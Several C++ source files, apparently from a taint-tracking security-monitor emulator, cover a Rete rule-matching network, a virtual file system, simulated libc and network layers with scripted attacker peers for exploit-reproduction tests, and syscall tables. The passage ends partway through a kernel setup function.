    AlphaNode *raw = node.get();
    alphas_.push_back(std::move(node));
    ++alphaCount_;
    alphaBySig_[sig] = raw;

    TemplateAlphas &ta = alphasByTmpl_[pat.tmpl];
    if (raw->tests.empty()) {
        ta.unindexed.push_back(raw);
    } else {
        std::vector<int> slots;
        std::string key;
        for (const AlphaTest &t : raw->tests) {
            slots.push_back(t.slotIndex);
            key += slotValueKey(t.slotIndex, t.expect);
            key += '#';
        }
        SlotSetIndex *ss = nullptr;
        for (SlotSetIndex &cand : ta.slotSets)
            if (cand.slots == slots) {
                ss = &cand;
                break;
            }
        if (!ss) {
            ta.slotSets.emplace_back();
            ss = &ta.slotSets.back();
            ss->slots = std::move(slots);
        }
        ss->byKey[key].push_back(raw);
    }

    // Prime the memory from facts already in working memory; the
    // node has no successors yet, so nothing propagates.
    auto fit = env_.factsByTmpl_.find(pat.tmpl->name);
    if (fit != env_.factsByTmpl_.end()) {
        for (const Fact *f : fit->second) {
            if (alphaAccepts(raw, f)) {
                raw->memory.push_back(f);
                factAlphas_[f->id].push_back(raw);
            }
        }
    }
    return raw;
}

void
ReteNetwork::attachToAlpha(AlphaNode *alpha, BetaNode *node)
{
    // Deepest-first: when one fact feeds several joins of the same
    // chain, right-activating the descendants before their ancestors
    // is what makes each (token, fact) pair join exactly once.
    auto it = std::upper_bound(
        alpha->successors.begin(), alpha->successors.end(), node,
        [](const BetaNode *a, const BetaNode *b) {
            return a->depth > b->depth;
        });
    alpha->successors.insert(it, node);
}

ReteNetwork::BetaNode *
ReteNetwork::internChild(BetaNode *parent, const CondElement &ce)
{
    const std::string key = ceKeyOf(ce);
    for (BetaNode *s : parent->successors)
        if (s->kind != BetaNode::Kind::Terminal && s->shareKey == key)
            return s;

    auto node = std::make_unique<BetaNode>();
    node->parent = parent;
    node->depth = parent->depth + 1;
    node->shareKey = key;
    switch (ce.kind) {
      case CondElement::Kind::Pattern:
        node->kind = BetaNode::Kind::Join;
        node->pattern = ce.pattern;
        node->alpha = internAlpha(ce.pattern);
        break;
      case CondElement::Kind::Not:
        node->kind = BetaNode::Kind::Neg;
        node->pattern = ce.pattern;
        node->alpha = internAlpha(ce.pattern);
        break;
      case CondElement::Kind::Exists:
        node->kind = BetaNode::Kind::Exists;
        node->pattern = ce.pattern;
        node->alpha = internAlpha(ce.pattern);
        break;
      case CondElement::Kind::Test:
        node->kind = BetaNode::Kind::Test;
        node->testExpr = ce.testExpr;
        node->testMutates = ce.testMutates;
        break;
    }
    BetaNode *raw = node.get();
    nodes_.push_back(std::move(node));
    ++betaCount_;
    parent->successors.push_back(raw);
    if (raw->alpha)
        attachToAlpha(raw->alpha, raw);
    if (raw->kind == BetaNode::Kind::Test)
        testNodes_.push_back(raw);
    primeNode(raw);
    return raw;
}

void
ReteNetwork::addRule(const Rule &rule)
{
    BetaNode *cur = &root_;
    for (const CondElement &ce : rule.lhs)
        cur = internChild(cur, ce);

    auto node = std::make_unique<BetaNode>();
    node->kind = BetaNode::Kind::Terminal;
    node->parent = cur;
    node->depth = cur->depth + 1;
    node->rule = &rule;
    BetaNode *raw = node.get();
    nodes_.push_back(std::move(node));
    ++betaCount_;
    cur->successors.push_back(raw);
    primeNode(raw);
}

void
ReteNetwork::primeNode(BetaNode *node)
{
    BetaNode *parent = node->parent;
    for (size_t i = 0; i < parent->memory.size(); ++i)
        leftPlus(node, parent->memory[i].get());
}

//
// Delta propagation
//

std::unique_ptr<ReteNetwork::Token>
ReteNetwork::allocToken()
{
    if (tokenPool_.empty())
        return std::make_unique<Token>();
    auto tok = std::move(tokenPool_.back());
    tokenPool_.pop_back();
    tok->binds.vars.truncate(0);
    tok->binds.factVars.truncate(0);
    tok->children.clear();
    return tok;
}

ReteNetwork::Token *
ReteNetwork::makeToken(BetaNode *node, Token *parent, const Fact *f,
                       Bindings binds)
{
    auto tok = allocToken();
    tok->node = node;
    tok->parent = parent;
    tok->fact = f;
    tok->bindsOwner = tok.get();
    tok->binds = std::move(binds);
    Token *raw = tok.get();
    node->memory.push_back(std::move(tok));
    if (parent)
        parent->children.push_back(raw);
    ++env_.stats_.reteTokensCreated;
    return raw;
}

/** A token that adds no bindings of its own (pass-through nodes,
 * joins that bound nothing new): alias the parent's binding owner
 * instead of copying the whole binding set. */
ReteNetwork::Token *
ReteNetwork::makeSharedToken(BetaNode *node, Token *parent,
                             const Fact *f)
{
    auto tok = allocToken();
    tok->node = node;
    tok->parent = parent;
    tok->fact = f;
    tok->bindsOwner = parent->bindsOwner;
    Token *raw = tok.get();
    node->memory.push_back(std::move(tok));
    parent->children.push_back(raw);
    ++env_.stats_.reteTokensCreated;
    return raw;
}

std::vector<FactId>
ReteNetwork::factsOf(const Token *tok)
{
    std::vector<FactId> out;
    for (const Token *t = tok; t; t = t->parent)
        if (t->fact)
            out.push_back(t->fact->id);
    std::reverse(out.begin(), out.end());
    return out;
}

ReteNetwork::Token *
ReteNetwork::findChildAt(Token *left, BetaNode *node)
{
    for (Token *c : left->children)
        if (c->node == node)
            return c;
    return nullptr;
}

bool
ReteNetwork::probeMatch(BetaNode *node, Token *left, const Fact *f)
{
    // Probe in place and truncate: the unifier's only net effect is
    // appending fresh variable keys (it never touches factVars here —
    // factVar binding is done by the caller, and not/exists patterns
    // cannot carry one).
    ++env_.stats_.reteJoinAttempts;
    Bindings &lb = bindsOf(left);
    const size_t vmark = lb.vars.size();
    const bool hit = Environment::unifyPattern(node->pattern, *f, lb);
    lb.vars.truncate(vmark);
    return hit;
}

uint64_t
ReteNetwork::countAlphaMatches(BetaNode *node, Token *left)
{
    uint64_t n = 0;
    for (size_t i = 0; i < node->alpha->memory.size(); ++i)
        if (probeMatch(node, left, node->alpha->memory[i]))
            ++n;
    return n;
}

bool
ReteNetwork::evalTest(BetaNode *node, Token *left)
{
    if (node->testMutates) {
        // A (bind ...) inside the test may clobber pattern bindings:
        // give it a throwaway copy, as the oracle matchers do.
        Bindings copy = bindsOf(left);
        return env_.eval(node->testExpr, copy).truthy();
    }
    return env_.eval(node->testExpr, bindsOf(left)).truthy();
}

void
ReteNetwork::tryJoin(BetaNode *join, Token *left, const Fact *f)
{
    ++env_.stats_.reteJoinAttempts;
    Bindings &lb = bindsOf(left);
    const size_t vmark = lb.vars.size();
    if (!Environment::unifyPattern(join->pattern, *f, lb)) {
        lb.vars.truncate(vmark);
        return;
    }
    Token *tok;
    if (lb.vars.size() == vmark && join->pattern.factVar.empty()) {
        // The join bound nothing new (every variable was already
        // bound, no fact variable): the child can alias the left
        // token's bindings outright.
        tok = makeSharedToken(join, left, f);
    } else {
        // The child token owns the extended bindings: copy the
        // prefix it shares with the left token, MOVE the entries
        // this join appended (they carry the heavy values — fresh
        // multifield copies), and restore the left token by
        // truncation.
        Bindings nb;
        nb.factVars = lb.factVars;
        auto &le = lb.vars.entries;
        auto &ne = nb.vars.entries;
        ne.reserve(le.size());
        ne.assign(le.begin(), le.begin() + (ptrdiff_t)vmark);
        for (size_t i = vmark; i < le.size(); ++i)
            ne.push_back(std::move(le[i]));
        lb.vars.truncate(vmark);
        if (!join->pattern.factVar.empty())
            nb.factVars[join->pattern.factVar] = f->id;
        tok = makeToken(join, left, f, std::move(nb));
    }
    propagatePlus(tok);
}

void
ReteNetwork::leftPlus(BetaNode *node, Token *left)
{
    switch (node->kind) {
      case BetaNode::Kind::Join:
        for (size_t i = 0; i < node->alpha->memory.size(); ++i)
            tryJoin(node, left, node->alpha->memory[i]);
        return;
      case BetaNode::Kind::Neg: {
        const uint64_t c = countAlphaMatches(node, left);
        Token *out = nullptr;
        if (c == 0)
            out = makeSharedToken(node, left, nullptr);
        node->negEntries[left] = NegEntry{c, out};
        if (out)
            propagatePlus(out);
        return;
      }
      case BetaNode::Kind::Exists: {
        const uint64_t c = countAlphaMatches(node, left);
        Token *out = nullptr;
        if (c > 0)
            out = makeSharedToken(node, left, nullptr);
        node->negEntries[left] = NegEntry{c, out};
        if (out)
            propagatePlus(out);
        return;
      }
      case BetaNode::Kind::Test:
        if (evalTest(node, left))
            propagatePlus(makeSharedToken(node, left, nullptr));
        return;
      case BetaNode::Kind::Terminal:
        env_.reteActivate(node->rule, factsOf(left), bindsOf(left));
        return;
      case BetaNode::Kind::Root:
        return;
    }
}

void
ReteNetwork::propagatePlus(Token *tok)
{
    BetaNode *node = tok->node;
    for (size_t i = 0; i < node->successors.size(); ++i)
        leftPlus(node->successors[i], tok);
}

void
ReteNetwork::removeToken(Token *tok)
{
    BetaNode *node = tok->node;
    for (BetaNode *s : node->successors) {
        switch (s->kind) {
          case BetaNode::Kind::Neg:
          case BetaNode::Kind::Exists:
            // The pass-through token, if one was emitted, is in
            // tok->children and dies with the recursion below.
            s->negEntries.erase(tok);
            break;
          case BetaNode::Kind::Terminal:
            env_.reteDeactivate(s->rule, factsOf(tok));
            break;
          default:
            break;
        }
    }
    while (!tok->children.empty())
        removeToken(tok->children.back());
    if (tok->parent) {
        auto &siblings = tok->parent->children;
        siblings.erase(
            std::remove(siblings.begin(), siblings.end(), tok),
            siblings.end());
    }
    auto &mem = node->memory;
    for (auto it = mem.begin(); it != mem.end(); ++it) {
        if (it->get() == tok) {
            tokenPool_.push_back(std::move(*it));
            mem.erase(it);
            break;
        }
    }
    ++env_.stats_.reteTokensDestroyed;
}

void
ReteNetwork::rightPlus(BetaNode *node, const Fact *f)
{
    BetaNode *parent = node->parent;
    switch (node->kind) {
      case BetaNode::Kind::Join:
        // By index, size re-read: test CEs downstream may evaluate
        // arbitrary expressions re-entrantly (the oracle matchers
        // accept the same hazard).
        for (size_t i = 0; i < parent->memory.size(); ++i)
            tryJoin(node, parent->memory[i].get(), f);
        return;
      case BetaNode::Kind::Neg:
        for (size_t i = 0; i < parent->memory.size(); ++i) {
            Token *left = parent->memory[i].get();
            if (!probeMatch(node, left, f))
                continue;
            auto eit = node->negEntries.find(left);
            if (eit == node->negEntries.end())
                continue;
            NegEntry &e = eit->second;
            ++e.count;
            if (e.count == 1 && e.out) {
                Token *out = e.out;
                e.out = nullptr;
                removeToken(out);
            }
        }
        return;
      case BetaNode::Kind::Exists:
        for (size_t i = 0; i < parent->memory.size(); ++i) {
            Token *left = parent->memory[i].get();
            if (!probeMatch(node, left, f))
                continue;
            auto eit = node->negEntries.find(left);
            if (eit == node->negEntries.end())
                continue;
            NegEntry &e = eit->second;
            ++e.count;
            if (e.count == 1) {
                Token *out = makeSharedToken(node, left, nullptr);
                e.out = out;
                propagatePlus(out);
            }
        }
        return;
      default:
        return;
    }
}

void
ReteNetwork::rightMinus(BetaNode *node, const Fact *f)
{
    BetaNode *parent = node->parent;
    switch (node->kind) {
      case BetaNode::Kind::Join: {
        std::vector<Token *> hits;
        for (const auto &tok : node->memory)
            if (tok->fact == f)
                hits.push_back(tok.get());
        for (Token *t : hits)
            removeToken(t);
        return;
      }
      case BetaNode::Kind::Neg:
        for (size_t i = 0; i < parent->memory.size(); ++i) {
            Token *left = parent->memory[i].get();
            if (!probeMatch(node, left, f))
                continue;
            auto eit = node->negEntries.find(left);
            if (eit == node->negEntries.end())
                continue;
            NegEntry &e = eit->second;
            if (e.count > 0)
                --e.count;
            if (e.count == 0 && !e.out) {
                Token *out = makeSharedToken(node, left, nullptr);
                eit->second.out = out;
                propagatePlus(out);
            }
        }
        return;
      case BetaNode::Kind::Exists:
        for (size_t i = 0; i < parent->memory.size(); ++i) {
            Token *left = parent->memory[i].get();
            if (!probeMatch(node, left, f))
                continue;
            auto eit = node->negEntries.find(left);
            if (eit == node->negEntries.end())
                continue;
            NegEntry &e = eit->second;
            if (e.count > 0)
                --e.count;
            if (e.count == 0 && e.out) {
                Token *out = e.out;
                e.out = nullptr;
                removeToken(out);
            }
        }
        return;
      default:
        return;
    }
}

void
ReteNetwork::alphaPlus(AlphaNode *alpha, const Fact *f)
{
    ++env_.stats_.alphaHits;
    alpha->memory.push_back(f);
    factAlphas_[f->id].push_back(alpha);
    for (size_t i = 0; i < alpha->successors.size(); ++i)
        rightPlus(alpha->successors[i], f);
}

void
ReteNetwork::onAssert(const Fact *f)
{
    auto it = alphasByTmpl_.find(f->tmpl);
    if (it == alphasByTmpl_.end())
        return;
    TemplateAlphas &ta = it->second;
    // Constant-free alphas accept every fact of the template.
    for (AlphaNode *a : ta.unindexed)
        alphaPlus(a, f);
    std::string key;
    for (SlotSetIndex &ss : ta.slotSets) {
        key.clear();
        for (int slot : ss.slots) {
            key += slotValueKey(slot, f->slots[slot]);
            key += '#';
        }
        auto bit = ss.byKey.find(key);
        if (bit == ss.byKey.end())
            continue;
        // The bucket key covers every test the bucket's alphas
        // carry, so they match by construction.
        for (AlphaNode *a : bit->second)
            alphaPlus(a, f);
    }
}

void
ReteNetwork::onRetract(const Fact *f)
{
    auto it = factAlphas_.find(f->id);
    if (it == factAlphas_.end())
        return;
    std::vector<AlphaNode *> list = std::move(it->second);
    factAlphas_.erase(it);
    for (AlphaNode *alpha : list) {
        auto &mem = alpha->memory;
        mem.erase(std::remove(mem.begin(), mem.end(), f), mem.end());
        for (size_t i = 0; i < alpha->successors.size(); ++i)
            rightMinus(alpha->successors[i], f);
    }
}

void
ReteNetwork::onTestsInvalidated()
{
    // Nodes were created parents-before-children, so by the time a
    // test node is re-evaluated its parent memory already reflects
    // any upstream flips.
    for (BetaNode *node : testNodes_) {
        BetaNode *parent = node->parent;
        for (size_t i = 0; i < parent->memory.size(); ++i) {
            Token *left = parent->memory[i].get();
            Token *out = findChildAt(left, node);
            const bool pass = evalTest(node, left);
            if (pass && !out)
                propagatePlus(makeSharedToken(node, left, nullptr));
            else if (!pass && out)
                removeToken(out);
        }
    }
}

} // namespace hth::clips
