/**
 * @file
 * In-memory virtual file system.
 *
 * Holds regular files (byte contents), FIFOs (named pipes, used by
 * the pma exploit reproduction) and registered program binaries
 * (VM images execve can load).
 */

#ifndef HTH_OS_VFS_HH
#define HTH_OS_VFS_HH

#include <cstdint>
#include <deque>
#include <map>
#include <memory>
#include <string>
#include <vector>

#include "vm/Image.hh"

namespace hth::os
{

/** One file-system object. */
struct VfsNode
{
    enum class Kind { File, Fifo };

    Kind kind = Kind::File;
    std::string path;
    std::vector<uint8_t> content;       //!< regular file bytes
    std::deque<uint8_t> fifo;           //!< FIFO buffered bytes
    bool executable = false;

    /** Set when this path is a runnable program image. */
    std::shared_ptr<const vm::Image> binary;

    /** Writers currently holding the FIFO open (EOF bookkeeping). */
    int fifoWriters = 0;
};

/** Path-keyed file-system namespace. */
class Vfs
{
  public:
    /** Look up a node; nullptr when absent. */
    std::shared_ptr<VfsNode> lookup(const std::string &path) const;

    bool exists(const std::string &path) const
    {
        return nodes_.count(path) != 0;
    }

    /** Create (or truncate) a regular file. */
    std::shared_ptr<VfsNode> createFile(const std::string &path);

    /** Create a FIFO. */
    std::shared_ptr<VfsNode> createFifo(const std::string &path);

    /** Add a regular file with initial contents. */
    std::shared_ptr<VfsNode> addFile(const std::string &path,
                                     const std::string &content);

    /** Register a runnable binary image at @p path. */
    std::shared_ptr<VfsNode>
    addBinary(const std::string &path,
              std::shared_ptr<const vm::Image> image);

    /** Remove a node; returns false when absent. */
    bool remove(const std::string &path);

    /** Every path currently present (sorted). */
    std::vector<std::string> paths() const;

  private:
    std::map<std::string, std::shared_ptr<VfsNode>> nodes_;
};

} // namespace hth::os

#endif // HTH_OS_VFS_HH
