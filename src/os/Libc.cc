#include "os/Libc.hh"

#include "support/Logging.hh"
#include "vm/Asm.hh"

namespace hth::os
{

using taint::SourceType;
using taint::TagSetId;
using taint::TagStore;
using vm::Reg;

uint32_t
nativeArg(Process &p, int i)
{
    // At native entry the return address sits at [esp]; cdecl
    // arguments follow.
    uint32_t esp = p.machine.reg(Reg::Esp);
    return p.machine.mem().read32(esp + 4 + 4 * (uint32_t)i);
}

taint::TagSetId
nativeArgTags(Process &p, int i)
{
    uint32_t esp = p.machine.reg(Reg::Esp);
    return p.machine.rangeTags(esp + 4 + 4 * (uint32_t)i, 4);
}

namespace
{

/** Copy a NUL-terminated string plus its shadow tags. */
uint32_t
copyStringTagged(Process &p, uint32_t dst, uint32_t src)
{
    vm::Machine &m = p.machine;
    uint32_t i = 0;
    while (true) {
        uint8_t b = m.mem().read8(src + i);
        m.mem().write8(dst + i, b);
        if (m.taintTracking())
            m.shadow().set(dst + i, m.shadow().get(src + i));
        if (b == 0)
            break;
        ++i;
    }
    return i;
}

uint32_t
guestStrlen(Process &p, uint32_t s)
{
    uint32_t i = 0;
    while (p.machine.mem().read8(s + i) != 0)
        ++i;
    return i;
}

} // namespace

LibcHandles
installLibc(Kernel &kernel)
{
    //
    // Build libc.so: every routine is a native trampoline.
    //
    vm::Asm a("/lib/tls/libc.so.6", true);
    a.dataSpace("__hostbuf", 64);
    a.dataString("__sh_path", "/bin/sh");
    a.native("system");
    a.native("gethostbyname");
    a.native("sleep");
    a.native("strcpy");
    a.native("strcat");
    a.native("strlen");
    a.native("memcpy");
    a.native("itoa");
    auto libc = a.build();

    vm::Asm b("/lib/ld-linux.so.2", true);
    b.dataString("__ld_ident", "ld-linux");
    auto ldso = b.build();

    kernel.addSharedObject(libc);
    kernel.addSharedObject(ldso);

    // The host-resolution database: conceptually /etc/hosts or a DNS
    // reply. gethostbyname results carry this provenance unless
    // Harrier short-circuits them (§7.2).
    taint::ResourceId hosts_res = kernel.resources().add(
        SourceType::File, "/etc/hosts", TagStore::EMPTY);

    kernel.registerNative(
        "system", [](Kernel &k, Process &p) {
            uint32_t cmd_ptr = nativeArg(p, 0);
            std::string cmd = p.machine.mem().readCString(cmd_ptr);
            TagSetId cmd_tags = p.machine.taintTracking()
                                    ? p.machine.stringTags(cmd_ptr)
                                    : TagStore::EMPTY;
            int status = k.runShellCommand(p, cmd, cmd_tags);
            p.machine.setReg(Reg::Eax, (uint32_t)status);
            p.machine.setRegTag(Reg::Eax, TagStore::EMPTY);
        });

    kernel.registerNative(
        "gethostbyname", [hosts_res](Kernel &k, Process &p) {
            uint32_t name_ptr = nativeArg(p, 0);
            std::string name = p.machine.mem().readCString(name_ptr);
            std::string addr = k.net().resolve(name);
            if (addr.empty()) {
                p.machine.setReg(Reg::Eax, 0);
                p.machine.setRegTag(Reg::Eax, TagStore::EMPTY);
                return;
            }
            uint32_t buf = p.machine.resolveSymbol("__hostbuf");
            TagSetId db_tags = p.machine.tagStore().single(
                {SourceType::File, hosts_res});
            p.machine.writeTagged(buf, addr.c_str(), addr.size() + 1,
                                  db_tags);
            p.machine.setReg(Reg::Eax, buf);
            p.machine.setRegTag(Reg::Eax, db_tags);
        });

    kernel.registerNative(
        "sleep", [](Kernel &k, Process &p) {
            uint64_t ticks = nativeArg(p, 0);
            p.machine.setReg(Reg::Eax, 0);
            p.sleeping = true;
            p.sleepUntil = k.now() + ticks;
            p.state = ProcState::Blocked;
        });

    kernel.registerNative(
        "strcpy", [](Kernel &, Process &p) {
            uint32_t dst = nativeArg(p, 0);
            uint32_t src = nativeArg(p, 1);
            copyStringTagged(p, dst, src);
            p.machine.setReg(Reg::Eax, dst);
            p.machine.setRegTag(Reg::Eax, nativeArgTags(p, 0));
        });

    kernel.registerNative(
        "strcat", [](Kernel &, Process &p) {
            uint32_t dst = nativeArg(p, 0);
            uint32_t src = nativeArg(p, 1);
            copyStringTagged(p, dst + guestStrlen(p, dst), src);
            p.machine.setReg(Reg::Eax, dst);
            p.machine.setRegTag(Reg::Eax, nativeArgTags(p, 0));
        });

    kernel.registerNative(
        "strlen", [](Kernel &, Process &p) {
            p.machine.setReg(Reg::Eax,
                             guestStrlen(p, nativeArg(p, 0)));
            p.machine.setRegTag(Reg::Eax, TagStore::EMPTY);
        });

    kernel.registerNative(
        "memcpy", [](Kernel &, Process &p) {
            uint32_t dst = nativeArg(p, 0);
            uint32_t src = nativeArg(p, 1);
            uint32_t n = nativeArg(p, 2);
            vm::Machine &m = p.machine;
            for (uint32_t i = 0; i < n; ++i) {
                m.mem().write8(dst + i, m.mem().read8(src + i));
                if (m.taintTracking())
                    m.shadow().set(dst + i, m.shadow().get(src + i));
            }
            m.setReg(Reg::Eax, dst);
            m.setRegTag(Reg::Eax, nativeArgTags(p, 0));
        });

    kernel.registerNative(
        "itoa", [](Kernel &, Process &p) {
            uint32_t value = nativeArg(p, 0);
            uint32_t dst = nativeArg(p, 1);
            TagSetId tags = nativeArgTags(p, 0);
            std::string digits = std::to_string(value);
            p.machine.writeTagged(dst, digits.c_str(),
                                  digits.size() + 1, tags);
            p.machine.setReg(Reg::Eax, dst);
            p.machine.setRegTag(Reg::Eax, TagStore::EMPTY);
        });

    return {libc, ldso};
}

} // namespace hth::os
