/**
 * @file
 * The simulated network.
 *
 * Provides what the HTH evaluation needs from "the internet":
 *  - a DNS table for gethostbyname (the §7.2 short-circuit
 *    experiment),
 *  - scriptable remote peers the guest can connect *to* (the
 *    attacker's drop servers, e.g. duero:40400 in the pwsafe
 *    exfiltration test),
 *  - remote peers that connect *in* to guest servers (the pma
 *    attacker issuing shell commands), and
 *  - guest-to-guest loopback connections.
 *
 * Addresses are "host:port" strings throughout.
 */

#ifndef HTH_OS_NET_HH
#define HTH_OS_NET_HH

#include <deque>
#include <functional>
#include <map>
#include <memory>
#include <string>
#include <vector>

namespace hth::os
{

struct Socket;

/** Handle a scripted remote peer uses to talk to its guest socket. */
class RemoteConn
{
  public:
    explicit RemoteConn(Socket *guest_side) : guest_(guest_side) {}

    /** Queue bytes for the guest to read. */
    void send(const std::string &data);

    /** Close the remote end (guest reads return EOF afterwards). */
    void close();

    /** Everything the guest wrote to this connection so far. */
    const std::string &received() const;

  private:
    Socket *guest_;
};

/** A scripted remote endpoint ("the attacker" / "a web server"). */
struct RemotePeer
{
    std::string name;   //!< pretty address, e.g. "duero:40400"

    /** Invoked when a connection to/from this peer is established. */
    std::function<void(RemoteConn &)> onConnect;

    /** Invoked when the guest sends data. */
    std::function<void(RemoteConn &, const std::string &)> onData;
};

/** One endpoint of a (possibly half-open) stream connection. */
struct Socket
{
    bool listening = false;
    std::string localAddr;          //!< set by bind
    bool bound = false;

    bool connected = false;
    std::string peerAddr;
    bool peerClosed = false;

    std::deque<uint8_t> inbox;      //!< bytes available to read

    /** Guest-to-guest peer (loopback), if any. */
    std::weak_ptr<Socket> peer;

    /** Scripted remote driving the other end, if any. */
    std::shared_ptr<RemotePeer> remote;

    /** Everything the guest wrote (remote side's view). */
    std::string remoteReceived;

    /** Connections queued on a listener awaiting accept(). */
    std::deque<std::shared_ptr<Socket>> pendingAccept;
};

/** The network fabric. */
class Network
{
  public:
    /** @name DNS @{ */

    /** Register a host name; a deterministic address is assigned. */
    std::string addHost(const std::string &name);

    /** Resolve a name to its network address ("" when unknown). */
    std::string resolve(const std::string &name) const;

    /** Reverse lookup for pretty-printing ("" when unknown). */
    std::string hostOf(const std::string &addr) const;

    /**
     * Canonical "host:port" for an address that may use either the
     * host name or the numeric address.
     */
    std::string canonical(const std::string &host_port) const;

    /** @} */
    /** @name Remote peers @{ */

    /** Register a remote server the guest may connect to. */
    void addRemoteServer(const std::string &host_port, RemotePeer peer);

    /**
     * Schedule a remote client that will connect to the guest server
     * at @p target_addr as soon as the guest listens on it.
     */
    void addRemoteClient(const std::string &target_addr,
                         RemotePeer peer);

    /** @} */
    /** @name Guest socket plumbing (used by the kernel) @{ */

    /** Register a listening guest socket; wires pending remotes. */
    void registerListener(const std::string &addr,
                          std::shared_ptr<Socket> listener);

    /**
     * Connect a guest socket to @p addr. Returns false when nothing
     * listens there (guest or remote).
     */
    bool connect(std::shared_ptr<Socket> sock, const std::string &addr);

    /** Deliver guest-written bytes to the socket's peer. */
    void deliver(Socket &from, const uint8_t *data, size_t len);

    /** Close a guest socket (notifies the peer). */
    void close(Socket &sock);

    /** @} */

  private:
    std::map<std::string, std::string> dns_;        // name -> addr
    std::map<std::string, std::string> reverse_;    // addr -> name
    std::map<std::string, std::shared_ptr<RemotePeer>> remoteServers_;
    std::multimap<std::string, std::shared_ptr<RemotePeer>>
        remoteClients_;
    std::map<std::string, std::weak_ptr<Socket>> listeners_;
    int nextHostNum_ = 1;
};

} // namespace hth::os

#endif // HTH_OS_NET_HH
