/**
 * @file
 * System call numbers (the i386 Linux subset HTH monitors) and the
 * socketcall sub-operation codes.
 */

#ifndef HTH_OS_SYSCALLS_HH
#define HTH_OS_SYSCALLS_HH

namespace hth::os
{

/** i386 Linux system call numbers. */
enum Syscall : int
{
    NR_exit = 1,
    NR_fork = 2,
    NR_read = 3,
    NR_write = 4,
    NR_open = 5,
    NR_close = 6,
    NR_waitpid = 7,
    NR_creat = 8,
    NR_unlink = 10,
    NR_execve = 11,
    NR_chdir = 12,
    NR_time = 13,
    NR_mknod = 14,
    NR_chmod = 15,
    NR_getpid = 20,
    NR_kill = 37,
    NR_dup = 41,
    NR_pipe = 42,
    NR_brk = 45,
    NR_ioctl = 54,
    NR_dup2 = 63,
    NR_getppid = 64,
    NR_socketcall = 102,
    NR_clone = 120,
    NR_nanosleep = 162,
};

/** socketcall(2) sub-operations. */
enum SocketCall : int
{
    SOCKOP_socket = 1,
    SOCKOP_bind = 2,
    SOCKOP_connect = 3,
    SOCKOP_listen = 4,
    SOCKOP_accept = 5,
    SOCKOP_send = 9,
    SOCKOP_recv = 10,
};

/** Symbolic name, e.g. "SYS_execve"; "SYS_<n>" when unknown. */
const char *syscallName(int number);

/** Common errno-style results (returned negated, Linux style). */
enum Errno : int
{
    ERR_PERM = 1,
    ERR_NOENT = 2,
    ERR_BADF = 9,
    ERR_CHILD = 10,
    ERR_ACCES = 13,
    ERR_EXIST = 17,
    ERR_INVAL = 22,
    ERR_NOEXEC = 8,
    ERR_CONNREFUSED = 111,
};

} // namespace hth::os

#endif // HTH_OS_SYSCALLS_HH
