#include "os/Kernel.hh"

#include <algorithm>

#include "obs/Span.hh"
#include "support/Logging.hh"
#include "support/StrUtil.hh"

namespace hth::os
{

using taint::ResourceId;
using taint::SourceType;
using taint::TagSetId;
using taint::TagStore;
using vm::Reg;

namespace
{

/** open(2) flag bits (i386 Linux values). */
constexpr uint32_t O_WRONLY = 01;
constexpr uint32_t O_RDWR = 02;
constexpr uint32_t O_CREAT = 0100;
constexpr uint32_t O_TRUNC = 01000;

} // namespace

const char *
syscallName(int number)
{
    switch (number) {
      case NR_exit: return "SYS_exit";
      case NR_fork: return "SYS_fork";
      case NR_read: return "SYS_read";
      case NR_write: return "SYS_write";
      case NR_open: return "SYS_open";
      case NR_close: return "SYS_close";
      case NR_waitpid: return "SYS_waitpid";
      case NR_creat: return "SYS_creat";
      case NR_unlink: return "SYS_unlink";
      case NR_execve: return "SYS_execve";
      case NR_chdir: return "SYS_chdir";
      case NR_time: return "SYS_time";
      case NR_mknod: return "SYS_mknod";
      case NR_chmod: return "SYS_chmod";
      case NR_getpid: return "SYS_getpid";
      case NR_kill: return "SYS_kill";
      case NR_dup: return "SYS_dup";
      case NR_pipe: return "SYS_pipe";
      case NR_brk: return "SYS_brk";
      case NR_ioctl: return "SYS_ioctl";
      case NR_dup2: return "SYS_dup2";
      case NR_getppid: return "SYS_getppid";
      case NR_socketcall: return "SYS_socketcall";
      case NR_clone: return "SYS_clone";
      case NR_nanosleep: return "SYS_nanosleep";
      default: return "SYS_unknown";
    }
}

Kernel::Kernel()
{
    stdinRes_ = resources_.add(SourceType::UserInput, "STDIN",
                               TagStore::EMPTY);
    stdoutRes_ = resources_.add(SourceType::File, "STDOUT",
                                TagStore::EMPTY);
    cmdlineRes_ = resources_.add(SourceType::UserInput, "COMMAND_LINE",
                                 TagStore::EMPTY);
    userInputTag_ = tags_.single({SourceType::UserInput, cmdlineRes_});
}

void
Kernel::addSharedObject(std::shared_ptr<const vm::Image> image)
{
    fatalIf(!image->sharedObject, "addSharedObject: ", image->path,
            " is not a shared object");
    sharedObjects_.push_back(std::move(image));
}

void
Kernel::registerNative(const std::string &name, NativeHandler handler)
{
    natives_[name] = std::move(handler);
}

//
// Process setup
//

void
Kernel::setupStdio(Process &p)
{
    auto in = std::make_shared<OpenFile>();
    in->kind = OpenFile::Kind::Stdin;
    in->writable = false;
    in->resource = stdinRes_;
    p.fds[0] = in;

    auto out = std::make_shared<OpenFile>();
    out->kind = OpenFile::Kind::Stdout;
    out->readable = false;
    out->resource = stdoutRes_;
    p.fds[1] = out;
    p.fds[2] = out;
}

void
Kernel::loadProcessImages(Process &p, const std::string &path,
                          std::shared_ptr<const vm::Image> binary)
{
    obs::SpanScope span(spanTracer_, obs::SpanId::ImageLoad);
    for (const auto &so : sharedObjects_) {
        ResourceId res = resources_.add(SourceType::Binary, so->path,
                                        TagStore::EMPTY);
        p.machine.loadImage(so, res);
    }
    ResourceId res =
        resources_.add(SourceType::Binary, path, TagStore::EMPTY);
    const vm::LoadedImage &app = p.machine.loadImage(binary, res);
    p.machine.setEip(app.base + binary->entry);
    p.binaryPath = path;
}

void
Kernel::buildInitialStack(Process &p,
                          const std::vector<std::string> &argv,
                          const std::vector<std::string> &env)
{
    // Strings first (top of stack, growing down), then the pointer
    // arrays; the whole region is tagged USER_INPUT (§7.3.3).
    vm::Machine &m = p.machine;
    uint32_t sp = vm::Machine::STACK_TOP;
    const uint32_t region_top = sp;

    std::vector<uint32_t> argv_ptrs, env_ptrs;
    for (const auto &s : argv) {
        sp -= (uint32_t)s.size() + 1;
        m.mem().writeCString(sp, s);
        argv_ptrs.push_back(sp);
    }
    for (const auto &s : env) {
        sp -= (uint32_t)s.size() + 1;
        m.mem().writeCString(sp, s);
        env_ptrs.push_back(sp);
    }
    sp &= ~3u; // align

    // env array (NULL-terminated), then argv array.
    sp -= 4;
    m.mem().write32(sp, 0);
    for (auto it = env_ptrs.rbegin(); it != env_ptrs.rend(); ++it) {
        sp -= 4;
        m.mem().write32(sp, *it);
    }
